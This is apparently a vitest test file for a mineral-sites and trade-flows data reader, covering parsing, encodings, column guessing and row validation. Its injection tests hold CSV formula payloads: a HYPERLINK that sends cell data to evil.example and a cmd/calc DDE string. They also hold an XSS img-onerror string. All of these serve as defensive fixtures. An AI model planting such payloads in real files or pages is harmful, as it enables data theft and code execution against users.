// The reader's own data core (src/derive/user-data): decoding, parsing, column guessing and row checks, table-driven.
import { readFileSync } from 'node:fs';
import { describe, expect, test } from 'vitest';
import {
  BINARY_MESSAGE,
  MAX_DATA_ROWS,
  TOO_MANY_ROWS_MESSAGE,
  cleanText,
  decodeBytes,
  guessMapping,
  makeLookup,
  readUserFile,
  safeCsvCell,
} from '../../src/derive/user-data';
import type { Mapping, ReadOptions, ReadResult, UserFlow, UserSite } from '../../src/derive/user-data';

const json = (path: string): unknown =>
  JSON.parse(readFileSync(new URL(`../../${path}`, import.meta.url), 'utf8'));
const minerals = (json('public/data/minerals.json') as { minerals: { id: string; name: string }[] }).minerals;
const countries = (json('public/data/countries.json') as { countries: { iso3: string; name: string }[] })
  .countries;
const lookup = makeLookup({ minerals, countries });
const options: ReadOptions = { reference: lookup };

const fixture = (name: string): Uint8Array =>
  new Uint8Array(readFileSync(new URL(`../fixtures/user-data/${name}`, import.meta.url)));
const utf8 = (text: string): Uint8Array => new TextEncoder().encode(text);
const read = (bytes: Uint8Array, name = 'file.csv', mapping?: Mapping): ReadResult =>
  readUserFile(bytes, name, mapping, options);

function ok(r: ReadResult): Exclude<ReadResult, { ok: false }> {
  if (!r.ok) throw new Error(`expected ok, got: ${r.message}`);
  return r;
}
function sites(r: ReadResult): UserSite[] {
  const o = ok(r);
  if (o.kind !== 'sites') throw new Error(`expected sites, got ${o.kind}`);
  return o.items;
}
function flows(r: ReadResult): UserFlow[] {
  const o = ok(r);
  if (o.kind !== 'flows') throw new Error(`expected flows, got ${o.kind}`);
  return o.items;
}
function failure(r: ReadResult): string {
  if (r.ok) throw new Error('expected a failure');
  return r.message;
}

describe('good files', () => {
  test('sites CSV: every row kept, lists normalised, defaults applied, ids user-<n>', () => {
    const r = ok(read(fixture('sites-good.csv')));
    expect(r).toMatchObject({ kind: 'sites', format: 'csv', encoding: 'utf-8', rowCount: 4, rejected: [] });
    const s = sites(r);
    expect(s.map((x) => x.id)).toEqual(['user-1', 'user-2', 'user-3', 'user-4']);
    expect(s[0]).toEqual({
      id: 'user-1',
      origin: 'user',
      name: 'Mount Weld',
      position: [122.55, -28.86],
      kind: 'mine',
      minerals: ['rare-earths'],
      country: 'AUS',
      status: 'operating',
      notes: 'Lynas concentrate',
      source: 'Lynas annual report 2024',
      row: 2,
    });
    expect(s[1]?.minerals).toEqual(['rare-earths', 'niobium']);
    expect(s[2]).toMatchObject({ country: 'USA', status: 'unknown', notes: 'Notes, with a comma' });
    expect(s[2]).not.toHaveProperty('kind');
    expect(s[2]).not.toHaveProperty('source');
    expect(s[3]?.status).toBe('care-and-maintenance');
  });

  test('flows CSV: countries by ISO3 or name, minerals by id or name, tonnes optional', () => {
    const f = flows(read(fixture('flows-good.csv')));
    expect(f).toEqual([
      {
        id: 'user-flow-1',
        origin: 'user',
        year: 2023,
        exporter: 'CHN',
        importer: 'USA',
        mineral: 'rare-earths',
        valueUsd: 1500000.5,
        tonnes: 120,
        row: 2,
      },
      {
        id: 'user-flow-2',
        origin: 'user',
        year: 2022,
        exporter: 'AUS',
        importer: 'CHN',
        mineral: 'lithium',
        valueUsd: 98000000,
        tonnes: null,
        row: 3,
      },
      {
        id: 'user-flow-3',
        origin: 'user',
        year: 2024,
        exporter: 'CHL',
        importer: 'CHN',
        mineral: 'lithium',
        valueUsd: 2500,
        tonnes: 10.5,
        row: 4,
      },
    ]);
  });

  test('GeoJSON: Point features kept, other geometries and out-of-range points rejected by feature number', () => {
    const r = ok(read(fixture('sites.geojson'), 'sites.geojson'));
    expect(r).toMatchObject({ format: 'geojson', rowUnit: 'feature', rowCount: 4 });
    expect(sites(r)).toMatchObject([
      {
        id: 'user-1',
        name: 'Kolwezi',
        position: [25.47, -10.71],
        minerals: ['cobalt', 'nickel'],
        country: 'COD',
        kind: 'mine',
        row: 1,
      },
      { id: 'user-2', name: 'Atacama', position: [-68.25, -23.5], status: 'operating', row: 4 },
    ]);
    expect(r.rejected).toEqual([
      { row: 2, reason: 'the geometry is "Polygon", not a Point' },
      { row: 3, reason: 'longitude "200" is outside -180 to 180' },
    ]);
  });
});

describe('partial file: bad rows rejected with their line and reason, good rows kept', () => {
  const r = ok(read(fixture('sites-partial.csv')));
  test('kept', () => {
    expect(sites(r).map((s) => [s.name, s.row])).toEqual([
      ['Good one', 2],
      ['Good two', 13],
    ]);
  });
  test.each([
    [3, /latitude "91" is outside -90 to 90/],
    [4, /latitude "1e5" is not a plain number/],
    [5, /latitude "0x10" is not a plain number/],
    [6, /latitude "NaN" is not a plain number.*longitude "Infinity" is not a plain number/],
    [7, /kind "volcano" is not one of deposit, mine/],
    [8, /unknown mineral "unobtainium"/],
    [9, /unknown country "XXX"/],
    [10, /status "dormant" is not one of operating/],
    [11, /name is empty/],
    [14, /latitude "1,000" is not a plain number/],
  ])('line %i', (line, reason) => {
    const rej = r.rejected.find((x) => x.row === line);
    expect(rej?.reason).toMatch(reason);
  });
  test('nothing else rejected', () => expect(r.rejected).toHaveLength(10));
});

describe('row numbers are file lines: blank lines and cells over several lines counted', () => {
  test('a quoted cell on two lines and a blank line before a bad row', () => {
    const r = ok(read(utf8('name,lat,lng\r\n"Two\r\nlines",1,2\r\n\r\nBad,99,2\r\nGood,3,4')));
    expect(sites(r).map((s) => [s.name, s.row])).toEqual([
      ['Two lines', 2],
      ['Good', 6],
    ]);
    expect(r.rejected).toEqual([{ row: 5, reason: 'latitude "99" is outside -90 to 90' }]);
  });
});

describe('bad flows', () => {
  const csv = [
    'exporter,importer,mineral,year,value,tonnes',
    'CHN,CHN,lithium,2020,1,',
    'CHN,Atlantis,lithium,2020,1,',
    'CHN,USA,,2020,1,',
    'CHN,USA,lithium,1899,1,',
    'CHN,USA,lithium,2020.5,1,',
    'CHN,USA,lithium,2020,-1,',
    'CHN,USA,lithium,2020,1,-2',
    'CHN,USA,lithium,2020,"1,000",',
    ',USA,lithium,2020,1,',
    'CHN,USA,lithium,2020,0,0',
  ].join('\n');
  const r = ok(read(utf8(csv)));
  test('the good row kept', () => expect(flows(r)).toMatchObject([{ row: 11, valueUsd: 0, tonnes: 0 }]));
  test.each([
    [2, 'exporter and importer are the same country'],
    [3, 'unknown importer "Atlantis" (an ISO3 code or a country name)'],
    [4, 'mineral is empty'],
    [5, 'year "1899" is not a whole year from 1900 to 2100'],
    [6, 'year "2020.5" is not a whole year from 1900 to 2100'],
    [7, 'value "-1" is negative'],
    [8, 'tonnes "-2" is negative'],
    [9, 'value "1,000" is not a plain number (digits and a decimal point)'],
    [10, 'exporter is empty'],
  ])('line %i', (line, reason) => expect(r.rejected.find((x) => x.row === line)?.reason).toBe(reason));
});

describe('files that cannot be read: clear messages, never a throw', () => {
  const binary = new Uint8Array([
    0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 0x0d, 0x49, 0x48, 0x44, 0x52,
  ]);
  test.each<[string, Uint8Array, string, RegExp]>([
    ['unbalanced quotes', fixture('malformed-quotes.csv'), 'x.csv', /^Line 4: a quoted cell never closes/],
    [
      'malformed JSON',
      fixture('malformed.geojson'),
      'x.geojson',
      /^This is not valid JSON at line 3, column \d+/,
    ],
    ['JSON that is not GeoJSON', utf8('{"a": 1}'), 'x.json', /not GeoJSON/],
    ['empty file', fixture('empty.csv'), 'x.csv', /^The file is empty\.$/],
    ['blank file', utf8(' \n\n  \n'), 'x.csv', /^The file is empty\.$/],
    ['header only', fixture('header-only.csv'), 'x.csv', /header row but no data rows/],
    ['PNG bytes', binary, 'x.png', /^This looks like a binary file, not CSV or GeoJSON\./],
    ['workbook', binary, 'x.xlsx', /binary file.*Save the spreadsheet as CSV/],
    [
      'bytes neither UTF-8 nor Shift_JIS',
      new Uint8Array([0x61, 0x2c, 0x62, 0x0a, 0xff, 0xff, 0x0a]),
      'x.csv',
      /binary file/,
    ],
    [
      'neither sites nor flows',
      utf8('a,b\n1,2\n'),
      'x.csv',
      /Could not tell whether this file holds sites or flows.*"a", "b"/,
    ],
  ])('%s', (_name, bytes, name, message) => {
    expect(failure(read(bytes, name))).toMatch(message);
  });
  test('binary is detected from control characters too', () => {
    const bytes = new Uint8Array(200).map((_, i) => (i % 3 === 0 ? 0x01 : 0x41));
    expect(decodeBytes(bytes)).toEqual({ ok: false, message: BINARY_MESSAGE });
  });
});

describe('cells stay plain text', () => {
  const s = sites(read(fixture('injection.csv')));
  test('formula cells kept as written and made safe by safeCsvCell', () => {
    expect(s[0]?.name).toBe('=HYPERLINK("http://evil.example/?x="&A1;"click")');
    expect(s[0]?.notes).toBe("+cmd|'/C calc'!A0");
    expect(s[0]?.source).toBe('@SUM(1+1)');
    expect(s[1]?.notes).toBe('-2+3');
  });
  test.each([
    ['=HYPERLINK("x")', '\'=HYPERLINK("x")'],
    ['+cmd', "'+cmd"],
    ['-2+3', "'-2+3"],
    ['@SUM(1+1)', "'@SUM(1+1)"],
    ['\tx', "'\tx"],
    ['\rx', "'\rx"],
    ['Plain', 'Plain'],
    ['a=b', 'a=b'],
    ['', ''],
  ])('safeCsvCell(%j) = %j', (cell, safe) => expect(safeCsvCell(cell)).toBe(safe));
  test('HTML in a name is kept as the literal string', () => {
    expect(s[1]?.name).toBe('<img src=x onerror=alert(1)>');
    expect(s[1]?.source).toBe('<b>bold</b>');
  });
  test.each([
    ['  padded  ', 'padded'],
    ['a\u0000b\u0007c', 'a b c'],
    ['line\nbreak', 'line break'],
    ['rtl\u202eoverride', 'rtl override'],
    ['x'.repeat(600), 'x'.repeat(500)],
    ['😀'.repeat(501), '😀'.repeat(500)],
  ])('cleanText(%j)', (raw, clean) => expect(cleanText(raw)).toBe(clean));
});

describe('encodings', () => {
  const csv = 'name,lat,lng\nMoa,20.65,-74.94\n';
  const utf16 = (text: string, littleEndian: boolean): Uint8Array => {
    const out = littleEndian ? [0xff, 0xfe] : [0xfe, 0xff];
    for (let i = 0; i < text.length; i++) {
      const c = text.charCodeAt(i);
      out.push(...(littleEndian ? [c & 0xff, c >> 8] : [c >> 8, c & 0xff]));
    }
    return new Uint8Array(out);
  };
  test.each<[string, Uint8Array, string]>([
    ['UTF-8 without BOM', utf8(csv), 'utf-8'],
    ['UTF-8 with BOM', new Uint8Array([0xef, 0xbb, 0xbf, ...utf8(csv)]), 'utf-8'],
    ['UTF-16LE with BOM', utf16(csv, true), 'utf-16le'],
    ['UTF-16BE with BOM', utf16(csv, false), 'utf-16be'],
  ])('%s', (_name, bytes, encoding) => {
    const r = ok(read(bytes));
    expect(r.encoding).toBe(encoding);
    expect(r.headers).toEqual(['name', 'lat', 'lng']);
    expect(sites(r)[0]).toMatchObject({ name: 'Moa', position: [-74.94, 20.65] });
  });
  test('Shift_JIS: 東京 written as its bytes decodes and is reported', () => {
    const tokyo = [0x93, 0x8c, 0x8b, 0x9e];
    expect(decodeBytes(new Uint8Array(tokyo))).toEqual({ ok: true, text: '東京', encoding: 'shift_jis' });
    const bytes = new Uint8Array([...utf8('name,lat,lng\n'), ...tokyo, ...utf8(',35.68,139.69\n')]);
    const r = ok(read(bytes));
    expect(r.encoding).toBe('shift_jis');
    expect(sites(r)[0]?.name).toBe('東京');
  });
});

describe('columns', () => {
  test('semicolon-delimited CSV', () => {
    expect(sites(read(fixture('semicolon.csv'))).map((s) => [s.name, s.minerals])).toEqual([
      ['Kolwezi', ['cobalt']],
      ['Salar de Atacama', ['lithium']],
    ]);
  });
  test('tab-delimited CSV', () => {
    expect(sites(read(utf8('name\tlat\tlng\nA\t1\t2\n')))[0]?.position).toEqual([2, 1]);
  });
  test('site headers in other words are mapped by synonyms', () => {
    const r = ok(read(fixture('synonyms.csv')));
    expect(r.mapping).toEqual({
      name: 'Site Name',
      lat: 'Latitude',
      lng: 'LONGITUDE',
      kind: 'Type',
      mineral: 'Commodity',
      country: 'ISO3',
      notes: 'Comment',
      source: 'Citation',
    });
    expect(sites(r)[0]).toMatchObject({
      name: 'Moa',
      country: 'CUB',
      minerals: ['nickel'],
      notes: 'laterite',
      source: 'USGS MRDS',
    });
  });
  test('flow headers in other words are mapped by synonyms', () => {
    const r = ok(read(fixture('flows-synonyms.csv')));
    expect(r.mapping).toEqual({
      exporter: 'From',
      importer: 'To',
      mineral: 'Commodity',
      year: 'Yr',
      value: 'Trade Value',
      tonnes: 'Qty',
    });
    expect(flows(r)).toMatchObject([
      { exporter: 'CHN', importer: 'JPN', mineral: 'graphite', year: 2021, valueUsd: 4000, tonnes: 3.5 },
    ]);
  });
  test('an explicit mapping overrides the guess', () => {
    expect(guessMapping(['Site', 'Where lat', 'Where lng', 'Y', 'X'])).toEqual({
      name: 'Site',
      lat: 'Y',
      lng: 'X',
    });
    const guessed = sites(read(fixture('explicit.csv')));
    expect(guessed).toEqual([]);
    const r = ok(
      read(fixture('explicit.csv'), 'x.csv', { name: 'Site', lat: 'Where lat', lng: 'where LNG' }),
    );
    expect(r.mapping.lat).toBe('Where lat');
    expect(sites(r)[0]?.position).toEqual([20, 10]);
  });
  test('a mapping naming a missing column or leaving a field out fails clearly', () => {
    expect(failure(read(fixture('explicit.csv'), 'x.csv', { name: 'Site', lat: 'Nope', lng: 'X' }))).toMatch(
      /The column "Nope" chosen for lat is not in the file/,
    );
    expect(
      failure(
        readUserFile(fixture('explicit.csv'), 'x.csv', { name: 'Site' }, { ...options, kind: 'sites' }),
      ),
    ).toMatch(/No column is chosen for lat, lng/);
  });
});

describe('size', () => {
  const header = 'name,lat,lng,mineral\n';
  const rows = (n: number): string => {
    const parts: string[] = [header];
    for (let i = 0; i < n; i++) parts.push(`Site ${i},${(i % 180) - 89.5},${(i % 360) - 179.5},lithium\n`);
    return parts.join('');
  };
  test(`${MAX_DATA_ROWS + 1} rows are refused with the limit message`, () => {
    expect(failure(read(utf8(rows(MAX_DATA_ROWS + 1))))).toBe(TOO_MANY_ROWS_MESSAGE);
  });
  test(`${MAX_DATA_ROWS} rows are read (time printed), progress reported`, () => {
    const bytes = utf8(rows(MAX_DATA_ROWS));
    const fractions: number[] = [];
    const t0 = performance.now();
    const r = readUserFile(bytes, 'big.csv', undefined, { ...options, onProgress: (f) => fractions.push(f) });
    const ms = performance.now() - t0;
    console.log(
      `user-data: ${MAX_DATA_ROWS.toLocaleString('en-US')} sites (${(bytes.length / 1e6).toFixed(1)} MB) read in ${ms.toFixed(0)} ms`,
    );
    const s = sites(r);
    expect(s).toHaveLength(MAX_DATA_ROWS);
    expect(s.at(-1)).toMatchObject({ id: `user-${MAX_DATA_ROWS}`, row: MAX_DATA_ROWS + 1 });
    expect(fractions.length).toBeGreaterThanOrEqual(40);
    expect(fractions.at(-1)).toBe(1);
    expect([...fractions].sort((a, b) => a - b)).toEqual(fractions);
  });
});
